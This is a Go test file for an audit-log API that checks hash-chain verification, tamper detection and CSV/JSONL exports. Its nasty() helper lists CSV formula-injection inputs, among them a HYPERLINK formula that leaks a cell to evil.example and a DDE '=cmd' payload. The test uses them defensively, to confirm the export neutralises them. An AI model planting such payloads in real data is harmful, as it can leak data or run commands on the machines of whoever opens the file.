package api_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/pacekeeper/pacekeeper/internal/pgtest"
	"github.com/pacekeeper/pacekeeper/policy"
	"github.com/pacekeeper/pacekeeper/store"
)

func TestAudit_VerifyIsAnAnswer(t *testing.T) {
	t.Parallel()
	database := pgtest.Postgres(t)
	b := newBedOn(t, database, nil)
	b.group("g1")
	b.group("g2")
	good := b.call("GET", "/v1/audit-events/verify", "").want(200).is("ok", "true").is("entries", "3").is("first_bad", "null")
	head, _ := good.at("head").(string)
	b.call("GET", "/v1/audit-events", "").want(200).is("items/0/hash", quoted(strings.TrimPrefix(head, "3:"))).
		is("items/2/prev_hash", `""`).is("items/0/erased", "[]")
	b.call("GET", "/v1/audit-events/verify?expect_head="+head, "").want(200).is("ok", "true")
	b.call("GET", "/v1/audit-events/verify?expect_head=3:"+strings.Repeat("0", 64), "").want(200).is("first_bad/seq", "3")
	b.call("GET", "/v1/audit-events/verify?expect_head=3", "").want(400)
	b.call("GET", "/v1/audit-events/export?format=xml", "").want(400)
	b.call("GET", "/v1/audit-events/export?limit=2", "").want(400)
	if _, err := pgtest.SQL(t, database).ExecContext(t.Context(), "UPDATE audit_entries SET target = 'g3' WHERE seq = 2"); err != nil {
		t.Fatal(err)
	}
	b.call("GET", "/v1/audit-events/verify", "").want(200).is("ok", "false").is("entries", "1").is("first_bad/seq", "2")
}

// exported reads a JSONL export: its records, each as JSON too, and its footer.
func (b *bed) exported(query string) (records []map[string]any, footer policy.AuditFooter) {
	b.t.Helper()
	a := b.call("GET", "/v1/audit-events/export?format=jsonl"+query, "").want(200)
	chain := policy.AuditChain{Filtered: query != ""}
	text := strings.Split(strings.TrimSuffix(string(a.body), "\n"), "\n")
	for _, line := range text[:len(text)-1] {
		r, err := policy.ParseAuditRecord([]byte(line))
		if err != nil {
			b.t.Fatalf("%v: %s", err, line)
		}
		if bad := chain.Next(r); bad != nil {
			b.t.Fatalf("%+v: %s", bad, line)
		}
		var fields map[string]any
		if err := json.Unmarshal([]byte(line), &fields); err != nil {
			b.t.Fatal(err)
		}
		records = append(records, fields)
	}
	footer, ok := policy.ParseAuditFooter([]byte(text[len(text)-1]))
	if !ok || footer.Count != int64(len(records)) {
		b.t.Fatalf("footer %s", text[len(text)-1])
	}
	if bad := chain.End(footer.Head, footer.MAC); bad != nil {
		b.t.Fatalf("%+v", bad)
	}
	return records, footer
}

// nasty are names that spreadsheets take for formulas, and what breaks rows.
func nasty() []string {
	return []string{
		`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1", "-1+2", "@x", "\t=1", " =1", "＝1+1", "'=1", `quo"te`,
		"a\nb", "a\r\n=cmd|' /C calc'!A0", "\n=1", "comma,semi;colon", "<b>&amp;\u2028", "plain", "{}", "消息",
	}
}

func TestC63_ExportsParseStrictlyAndDoNoHarm(t *testing.T) {
	t.Parallel()
	b := newBedOn(t, pgtest.SQLite(t), nil)
	for _, name := range nasty() {
		a := store.Actor{Name: name, Role: "operator", Channel: "ui", Reason: name, Address: "192.0.2.1", RequestID: name}
		if err := b.store.SignedIn(t.Context(), a); err != nil {
			t.Fatal(err)
		}
		if _, _, err := b.store.PutGroup(t.Context(), a, store.Anything(), "g1", name, "en"); err != nil {
			t.Fatal(err)
		}
	}
	records, footer := b.exported("")
	a := b.call("GET", "/v1/audit-events/export?format=csv", "").want(200)
	reader := csv.NewReader(bytes.NewReader(a.body))
	rows, err := reader.ReadAll() // strict: quotes where they belong, as many cells in each row
	if err != nil || len(rows) != len(records)+2 {
		t.Fatalf("%d rows of %d records, %v", len(rows), len(records), err)
	}
	for n, record := range records {
		for column, name := range rows[0] {
			cell := rows[n+1][column]
			if strings.IndexAny(strings.TrimSpace(cell), "=+-@＝") == 0 || strings.IndexAny(cell, "\t\r\n") == 0 {
				t.Errorf("row %d: %s is %q", n, name, cell)
			}
			// csv.Reader makes one line feed of carriage return and line feed inside of cells.
			want := strings.ReplaceAll(asCell(t, record[name]), "\r\n", "\n")
			if got := strings.TrimPrefix(cell, "'"); got != want && !sameJSON(t, got, want) {
				t.Errorf("row %d: %s is %q in CSV, %q in JSON", n, name, got, want)
			}
		}
		if len(record) != len(rows[0]) {
			t.Errorf("%d fields in JSON, %d in CSV", len(record), len(rows[0]))
		}
	}
	want := []string{"footer", "count=35", "head=" + footer.Head.String(), "head_mac=" + footer.MAC, "filtered=false"}
	if diff := cmp.Diff(want, rows[len(rows)-1][:5]); diff != "" {
		t.Error(diff)
	}
}

// sameJSON reports texts that are the same object.
func sameJSON(t *testing.T, a, b string) bool {
	t.Helper()
	var x, y map[string]any
	return json.Unmarshal([]byte(a), &x) == nil && json.Unmarshal([]byte(b), &y) == nil && cmp.Equal(x, y)
}

// asCell is a JSON value as a cell.
func asCell(t *testing.T, value any) string {
	t.Helper()
	switch v := value.(type) {
	case nil:
		return ""
	case string:
		return v
	case []any:
		return ""
	default:
		text, err := json.Marshal(v)
		if err != nil {
			t.Fatal(err)
		}
		return string(text)
	}
}

func TestAudit_ExportTakesTheListsFilters(t *testing.T) {
	t.Parallel()
	b := newBed(t)
	for _, id := range []string{"a", "b", "c", "d"} {
		b.group(id)
	}
	for query, want := range map[string]int{
		"": 5, "&group_id=b": 1, "&action=group.*": 4, "&actor=tests": 4, "&role=auditor": 0, "&channel=api": 4,
		"&from=2099-01-01T00:00:00Z": 0, "&to=2099-01-01T00:00:00Z": 5, "&request_id=x": 0,
	} {
		if records, footer := b.exported(query); len(records) != want || footer.Filtered != (query != "") || footer.Head.Seq != 5 {
			t.Errorf("%q: %d entries, footer %+v", query, len(records), footer)
		}
	}
	before, _ := b.exported("&action=" + url.QueryEscape("group.create"))
	if before[0]["before"] != nil || before[0]["group_id"] != "a" {
		t.Errorf("exported %v", before[0])
	}
	if a := b.send(bootstrap, http.MethodGet, "/v1/audit-events/export", "", "Accept-Encoding: gzip"); a.header.Get("Content-Encoding") != "gzip" {
		t.Error("not compressed")
	}
}
